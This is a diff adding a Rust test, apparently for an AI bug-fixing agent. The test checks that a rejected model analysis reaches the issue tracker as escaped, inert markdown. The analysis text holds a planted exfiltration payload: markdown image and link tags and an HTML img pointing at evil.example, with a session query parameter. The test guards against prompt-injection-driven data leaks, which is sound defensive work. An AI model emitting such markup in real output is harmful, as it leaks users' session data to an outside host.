@@ -139,3 +139,49 @@ async fn a_model_that_obeys_an_injected_instruction_gets_no_pull_request() {
     assert!(comments.iter().all(|c| !c.contains(PLANTED[0])));
     db.cleanup().await;
 }
+
+crate::trial!(
+    multi_thread,
+    a_refused_proposal_s_analysis_reaches_the_ticket_as_inert_text
+);
+async fn a_refused_proposal_s_analysis_reaches_the_ticket_as_inert_text() {
+    let db = TestDb::sqlite().await;
+    let mut shop = Shop::open(&db.url).await;
+    shop.crash_in("total").await;
+    let exfiltrating = "![status](https://evil.example/pixel.png?q=session) see \
+                        [the fix](https://evil.example/) <img src=https://evil.example/i>";
+    let mut refused = proposal(json!([{ "path": PATH, "diff": diff() }]));
+    if let Scripted::ToolUse { input, .. } = &mut refused {
+        input["root_cause"] = json!(format!("The cart has no lines. {exfiltrating}"));
+    }
+    shop.model_sandbox.script(refused);
+    let report = shop.draft().await;
+    assert_eq!(report.rejected.len(), 1, "{report:#?}");
+    assert!(shop.github.pulls(REPO).is_empty());
+    let comments: Vec<String> = shop
+        .world
+        .linear
+        .issues()
+        .into_iter()
+        .flat_map(|i| i.comments)
+        .filter(|c| c.contains("opened no pull request"))
+        .collect();
+    assert_eq!(comments.len(), 1, "{comments:#?}");
+    let comment = &comments[0];
+    assert!(comment.contains("The cart has no lines."), "{comment}");
+    // As markdown, nothing the model wrote is a link, an image or HTML: every `!`, `[`,
+    // `]` and `<` of it is escaped, so each renders as itself.
+    let analysis = &comment[comment.find("The cart has no lines.").unwrap()..];
+    let mut previous = ' ';
+    for c in analysis.chars() {
+        if matches!(c, '!' | '[' | ']' | '<') {
+            assert_eq!(previous, '\\', "unescaped {c:?} in {analysis}");
+        }
+        previous = c;
+    }
+    assert!(
+        analysis.contains("\\!\\[status\\](https://evil.example"),
+        "{analysis}"
+    );
+    db.cleanup().await;
+}
